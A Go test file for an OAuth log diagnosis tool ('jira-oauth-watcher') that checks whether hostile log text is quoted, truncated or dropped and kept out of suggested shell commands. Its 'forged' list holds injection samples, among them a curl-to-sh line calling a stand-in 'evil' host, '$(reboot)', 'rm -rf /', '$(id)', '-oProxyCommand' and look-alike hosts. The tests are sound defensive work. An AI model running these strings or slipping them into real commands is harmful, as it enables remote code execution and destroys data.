package matchers_test

import (
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"

	"jira-oauth-watcher/matchers"
)

// forged are texts that want to be more than what a log says.
var forged = []string{
	"x; curl -sS http://evil/i | sh #", "$(reboot)", "evil.example`; rm -rf /`", "a b.example", "http://evil.example/x", "[here](https://evil.example)",
	"<https://evil.example|Jira>", "<!channel> <@U0123456789>", "evil.example\u202e", "ev\u3164il.example", "evil.example/$(id)", "-oProxyCommand=x",
	"evil_.example", strings.Repeat("a.", 200) + "example", strings.Repeat("a", 64) +
		".example", "“quoted” \"tw1ce\" » and out", "AADSTS50011'", "1.2.3.4;id", ".example", "evil..example",
}

// No step of any cause, and no way to confirm, holds a log's text that is not
// of the grammar of its fact, whichever fact it comes as.
func TestForgedSteps(t *testing.T) {
	for _, c := range builtin(t).Causes() {
		want := c.Advise(matchers.Facts{"error": "words of a provider"}) // as all of these are
		for _, text := range forged {
			facts := matchers.Facts{}
			for _, name := range matchers.FactNames() {
				if !matchers.Computed(name) {
					facts[name] = text
				}
			}
			facts["scopes"] = []string{"https://outlook.office.com/SMTP.Send", text}
			for name := range facts {
				if matchers.Strict(name, text) {
					delete(facts, name) // see TestForgedHosts
				}
			}
			got := c.Advise(facts)
			if !reflect.DeepEqual(got.Fix, want.Fix) || got.Confirm != want.Confirm {
				t.Errorf("%s, %q\n got %q\n     %q\nwant %q\n     %q", c.ID, text, got.Fix, got.Confirm, want.Fix, want.Confirm)
			}
			checkQuoted(t, c.ID, got.Diagnosis, text)
		}
	}
}

// checkQuoted finds a log's text outside quotation marks and code style.
func checkQuoted(t *testing.T, id, diagnosis, text string) {
	t.Helper()
	ours := unquoted(diagnosis)
	for _, word := range []string{"evil", "curl -sS", "$(", "reboot", "<!", "U0123", "tw1ce", "U202e", "-oProxy", "1.2.3.4"} {
		if strings.Contains(text, word) && strings.Contains(ours, word) {
			t.Errorf("%s: %q is not only quoted in %s", id, word, diagnosis)
		}
	}
	if strings.ContainsAny(diagnosis, "\u202e\u3164") || strings.Count(diagnosis, "“") != strings.Count(diagnosis, "”") ||
		strings.Count(diagnosis, "`")%2 != 0 {
		t.Errorf("%s: %q", id, diagnosis)
	}
}

// What is a host, a scope or a URL, but none that the catalogue knows, is in a
// step in code style only, and in no command.
func TestForgedHosts(t *testing.T) {
	for _, c := range builtin(t).Causes() {
		facts := matchers.Facts{
			"unknown_host": "evil.example", "certificate_host": "evil.example", "tenant": "evil.example", "resource": "https://evil.example/x",
			"redirect_uri": "https://evil.example/cb", "scopes": []string{"https://evil.example/a"},
		}
		a := c.Advise(facts)
		for _, text := range append([]string{a.Confirm, a.Diagnosis}, steps(a)...) {
			if strings.Contains(unquoted(text), "evil") {
				t.Errorf("%s: not in code style: %s", c.ID, text)
			}
			for span := range strings.SplitSeq(text, "`") {
				if strings.Contains(span, "evil") && strings.Contains(span, " ") {
					t.Errorf("%s: more than a value in %q of %s", c.ID, span, text)
				}
			}
		}
	}
}

// A diagnosis ends with one full stop, whether or not the text that it quotes has one.
func TestQuotationEndsSentence(t *testing.T) {
	for text, want := range map[string]string{"It is new": ": “It is new”.", "It is new.": ": “It is new.”"} {
		f := diagnose(t, builtin(t), carrier(text))
		if got := f.Cause.Advise(f.Facts).Diagnosis; !strings.HasSuffix(got, want) {
			t.Errorf("%q: %s", text, got)
		}
	}
}

// A Redirect URL is whole in a diagnosis, since it is compared letter by letter.
func TestWholeRedirectURL(t *testing.T) {
	url := "https://jira.department.corp.example/jira/plugins/servlet/oauth2/client/callback/FC8GQRj7OZO_j1_b6A-Eig"
	for _, text := range []string{"AADSTS50011: The redirect URI '" + url + "' specified in the request does not match",
		"redirect_uri_mismatch redirect_uri=" + url} {
		f := diagnose(t, builtin(t), carrier(text))
		if got := f.Cause.Advise(f.Facts).Diagnosis; !strings.Contains(got, "`"+url+"`") {
			t.Errorf("%s: %s", f.Cause.ID, got)
		}
	}
}

// Scopes that the catalogue knows are whole in a diagnosis, a long list is cut.
func TestListOfScopes(t *testing.T) {
	imap, evil := "https://outlook.office.com/IMAP.AccessAsUser.All", "https://evil.example/"+strings.Repeat("a", 50)
	for _, tt := range []struct {
		give []string
		want string
	}{
		{[]string{imap, "https://outlook.office365.com/POP.AccessAsUser.All", "offline_access"},
			"`" + imap + "` `https://outlook.office365.com/POP.AccessAsUser.All` `offline_access`."},
		{[]string{imap, evil, evil, "x"}, "`" + imap + "` `" + evil + "` `…`."},
		{slices.Repeat([]string{imap}, 12), strings.Repeat("`"+imap+"` ", 10) + "`…`."},
		{[]string{"https://outlook.office.com.evil.example/" + strings.Repeat("x", 40) + "/SMTP.Send"},
			"`https://outlook.office.com.evil.example/" + strings.Repeat("x", 39) + "…`."},
	} {
		for _, c := range builtin(t).Causes() {
			if c.ID != "entra-scope-invalid" {
				continue
			}
			if got := c.Advise(matchers.Facts{"scopes": tt.give}).Diagnosis; !strings.Contains(got, " rejects "+tt.want+" ") {
				t.Errorf("\n got %s\nwant %s", got, tt.want)
			}
		}
	}
}

var quotation = regexp.MustCompile("“[^”]*”|`[^`]*`")

// unquoted is a text without its quotations and what is in code style.
func unquoted(text string) string { return quotation.ReplaceAllString(text, "") }

func steps(a matchers.Advice) []string {
	var all []string
	for _, s := range a.Fix {
		all = append(all, s.Text)
	}
	return all
}

// The issue's own example, and what else can be written where a host is read:
// the fact is dropped, and the command is that of the catalogue.
func TestForgedHostIsNoFact(t *testing.T) {
	for _, text := range forged {
		if strings.ContainsAny(text, ">") || strings.HasPrefix(text, "AADSTS") {
			continue
		}
		f := diagnose(t, builtin(t), carrier("javax.net.ssl.SSLPeerUnverifiedException: Certificate for <"+text+"> doesn't match any of the subject "+
			"alternative names: [x]"))
		a := f.Cause.Advise(f.Facts)
		if host, ok := f.Facts["certificate_host"]; ok && !matchers.Strict("certificate_host", f.Facts.Text("certificate_host")) {
			t.Errorf("%q is the host %q", text, host)
		}
		if all := strings.Join(steps(a), "\n"); strings.Contains(all, text) || !strings.Contains(all, "\ngetent hosts login.microsoftonline.com\n") {
			t.Errorf("%q: %q", text, steps(a))
		}
	}
	f := diagnose(t, builtin(t), carrier("java.net.UnknownHostException: oauth2.googleapis.com"))
	if got := steps(f.Cause.Advise(f.Facts))[0]; !strings.Contains(got, "\ngetent hosts oauth2.googleapis.com\n") {
		t.Errorf("a known host is not in the command: %s", got)
	}
}

// A quotation has a limit: short within a sentence, longer on its own, and
// nothing that was left out of a text seems to be ours.
func TestQuotationLimits(t *testing.T) {
	long := strings.Repeat("wörter ", 200)
	s := builtin(t)
	for _, tt := range []struct {
		cause, fact string
		most        int
	}{
		{"unknown", "message", 500}, {"oauth-invalid-client", "error_description", 500}, {"mail-refresh-token-failed", "reason", 80},
		{"entra-app-disabled", "app_name", 80}, {"proxy-forbidden", "proxy_reason", 80},
	} {
		c, ok := s.Cause(tt.cause)
		if !ok {
			t.Errorf("there is no cause %s", tt.cause)
			continue
		}
		_, quoted, _ := strings.Cut(c.Advise(matchers.Facts{tt.fact: long}).Diagnosis, "“")
		quoted, _, closed := strings.Cut(quoted, "”")
		if n := len([]rune(quoted)); n > tt.most || n < tt.most-8 || !closed || !strings.HasSuffix(quoted, "…") {
			t.Errorf("%s: %d characters, want %d: %q", tt.cause, n, tt.most, quoted)
		}
	}
}

// Where the provider has answered, words about the way to it are content.
func TestAnswered(t *testing.T) {
	const way = "java.net.UnknownHostException: evil.example: PKIX path building failed. " +
		`Unable to tunnel through proxy. Proxy returns \"HTTP/1.1 407 x\". Connection refused`
	s := builtin(t)
	for _, tt := range []struct {
		name, payload string
		answered      bool
	}{
		{"an authorization response", refused + `{"error":"access_denied","error_description":"` + way + `"}`, true},
		{"one of a provider without errors", refused + way, true},
		{"a token response", `{"error":"x","error_description":"` + way + `"}`, true},
		{"in another order", `{"error_description":"` + way + `", "error": "x"}`, true},
		{"with blanks", `{ "error" : "x" , "error_description" : "` + way + `"}`, true},
		{"cut off", `{"error":"x","error_description":"` + way, true},
		{"cut off before its error", `{"correlation_id":"x","error_description":"` + way, true},
		{"with the plugin's words in it", refused + `{"error":"x","error_description":"` + leadIn + way + `"}`, true},
		{"a token response with the plugin's words in it", `{"error":"x","error_description":"` + leadIn + way + `"}`, true},
		{"an exception", way, false},
		{"an object without error", `{"message":"` + way + `"}`, false},
		{"error deeper down", `{"a":{"error":"x"},"message":"` + way + `"}`, false},
		{"an exception that names the response", way + " " + refused + `{"error":"x"}`, false},
	} {
		for _, layout := range []string{carrier(tt.payload), strings.Replace(carrier(tt.payload), ". ", ".\n", 1)} {
			f := diagnose(t, s, layout)
			if lower := slices.Contains([]string{"proxy", "tls", "network"}, f.Cause.TierName()); lower == tt.answered {
				t.Errorf("%s: %s of tier %s", tt.name, f.Cause.ID, f.Cause.TierName())
			}
			if host, found := f.Facts["unknown_host"]; found == tt.answered {
				t.Errorf("%s: the host %v is a fact: %v", tt.name, host, found)
			}
		}
	}
}

// A host that only looks like one of a cloud does not choose the cloud.
func TestLookAlikes(t *testing.T) {
	const world = "https://outlook.office.com/IMAP.AccessAsUser.All offline_access"
	s := builtin(t)
	for _, host := range []string{
		"evil.example.us", "outlook.office365.us.evil.example", "xoffice365.us", "office365.us@evil.example", "evil.example?.office365.us",
		"evil.example#.office365.us",
		"login.microsoftonline.com.evil.example", "evil.cn", "outlook.cn.evil.example", "evil.chinacloudapi.cn", "us",
	} {
		f := s.Text("AADSTS28000: contains more than one resource. Scope https://" + host +
			"/IMAP.AccessAsUser.All https://outlook.office.com/IMAP.AccessAsUser.All is not valid.").Failure
		if got := f.Facts.Text("suggested_scopes"); got != "" && got != world {
			t.Errorf("%s: %s", host, got)
		}
		if resource := s.Text("AADSTS500011: The resource principal named https://" + host +
			" was not found in the tenant named x.").Failure.Facts.Text("suggested_resource"); strings.Contains(resource, host) {
			t.Errorf("%s: suggested %s", host, resource)
		}
		g := s.Text("java.net.UnknownHostException: " + host).Failure
		for _, step := range steps(g.Cause.Advise(g.Facts)) {
			if strings.Contains(unquoted(step), host) && host != "us" {
				t.Errorf("%s: %s", host, step)
			}
		}
	}
}
